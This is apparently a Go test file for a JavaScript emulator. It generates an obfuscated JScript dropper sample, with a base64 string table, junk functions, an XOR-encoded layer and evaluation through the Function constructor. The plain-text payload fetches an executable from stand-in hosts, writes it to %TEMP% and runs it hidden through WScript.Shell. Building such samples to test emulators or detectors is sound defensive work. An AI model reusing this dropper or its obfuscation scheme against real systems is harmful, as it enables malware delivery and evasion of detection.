package jsemu

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
)

// obfuscatedDropper builds a dropper of about size bytes in the style of
// javascript-obfuscator output: a rotated string table read through an
// accessor, hex-named junk functions that run at load, and the payload
// XOR-encoded in a number array, decoded with String.fromCharCode and run
// through the Function constructor, which evals the final layer. The
// payload tries three URLs in a try/catch loop, saves with ADODB.Stream
// and runs the file with WScript.Shell.
func obfuscatedDropper(size int) string {
	r := rand.New(rand.NewPCG(1, 2))
	payload := strings.Join([]string{
		`var u = ["http://cdn-a.bad-host.test/x/1.bin", "http://203.0.113.77/x/2.bin", "http://cdn-c.bad-host.test/x/3.bin"];`,
		`var sh = new ActiveXObject(T(0)); var fso = new ActiveXObject(T(1));`,
		`var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\" + fso.GetTempName() + ".exe";`,
		`for (var i = 0; i < u.length; i++) { try {`,
		` var x = new ActiveXObject(T(2)); x.open("GET", u[i], false); x.send();`,
		` if (x.status !== 200) { continue; }`,
		` var s = new ActiveXObject(T(3)); s.Open(); s.Type = 1; s.Write(x.responseBody); s.SaveToFile(p, 2); s.Close();`,
		` sh.Run("\"" + p + "\"", 0, false); break;`,
		`} catch (e) {} }`,
	}, "\n")
	layer := "eval(" + jsQuote(payload) + ");"
	const key = 0x5a
	nums := make([]string, len(layer))
	for i := 0; i < len(layer); i++ {
		nums[i] = fmt.Sprintf("0x%x", layer[i]^key)
	}
	b64 := func(s string) string {
		const abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
		var out strings.Builder
		for i := 0; i < len(s); i += 3 {
			var n uint32
			k := 0
			for j := 0; j < 3; j++ {
				n <<= 8
				if i+j < len(s) {
					n |= uint32(s[i+j])
					k++
				}
			}
			for j := 0; j < 4; j++ {
				if j <= k {
					out.WriteByte(abc[(n>>(18-6*j))&63])
				} else {
					out.WriteByte('=')
				}
			}
		}
		return out.String()
	}
	real := []string{"WScript.Shell", "Scripting.FileSystemObject", "MSXML2.XMLHTTP", "ADODB.Stream"}
	var table []string
	for _, s := range real {
		table = append(table, "'"+b64(s)+"'")
	}
	var sb strings.Builder
	sb.WriteString("var _0x4f2a = [")
	for i := 0; i < 300; i++ {
		w := make([]byte, 6+r.IntN(10))
		for j := range w {
			w[j] = byte('a' + r.IntN(26))
		}
		table = append(table, "'"+b64(string(w))+"'")
	}
	sb.WriteString(strings.Join(table, ","))
	sb.WriteString("];\n")
	sb.WriteString(`var _0xb64 = function (s) { var a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", o = "", b = 0, n = 0;
  for (var i = 0; i < s.length; i++) { var c = a.indexOf(s.charAt(i)); if (c < 0) { continue; } b = (b << 6) | c; n += 6;
    if (n >= 8) { n -= 8; o += String.fromCharCode((b >> n) & 0xff); } } return o; };
var T = function (i) { return _0xb64(_0x4f2a[i]); };
`)
	var junk []string
	for sb.Len()+len(junk)*36 < size-len(layer)*5-300 {
		name := fmt.Sprintf("_0x%04x", r.IntN(0xffff))
		junk = append(junk, name)
		fmt.Fprintf(&sb, "function %s(_0xa, _0xb) { var _0xc = (_0xa ^ 0x%x) + _0xb; for (var _0xi = 0; _0xi < %d; _0xi++) { _0xc = (_0xc * 0x%x + _0xi) %% 0x%x; if (_0xc === 0x%x) { _0xc = T(%d).length; } } return _0xc; }\n",
			name, r.IntN(0xffff), 10+r.IntN(40), r.IntN(0xff)+1, r.IntN(0xfffff)+1, r.IntN(0xfffff), 4+r.IntN(300))
	}
	sb.WriteString("var _0xacc = 0;\n")
	for _, j := range junk {
		fmt.Fprintf(&sb, "_0xacc ^= %s(_0xacc, 0x%x);\n", j, r.IntN(0xffff))
	}
	fmt.Fprintf(&sb, "var _0xd = [%s];\n", strings.Join(nums, ","))
	sb.WriteString(`var _0xs = []; for (var _0xk = 0; _0xk < _0xd.length; _0xk++) { _0xs.push(String.fromCharCode(_0xd[_0xk] ^ 0x5a)); }
var _0xF = (function () {}).constructor;
_0xF("T", _0xs.join(""))(T);
`)
	return sb.String()
}

// jsQuote returns s as a double-quoted JavaScript string literal.
func jsQuote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, c := range s {
		switch c {
		case '"', '\\':
			b.WriteByte('\\')
			b.WriteRune(c)
		case '\n':
			b.WriteString(`\n`)
		default:
			b.WriteRune(c)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func TestObfuscatedSize(t *testing.T) {
	n := len(obfuscatedDropper(50 << 10))
	if n < 48<<10 || n > 52<<10 {
		t.Fatalf("generated dropper is %d bytes, want about 50 KB", n)
	}
}
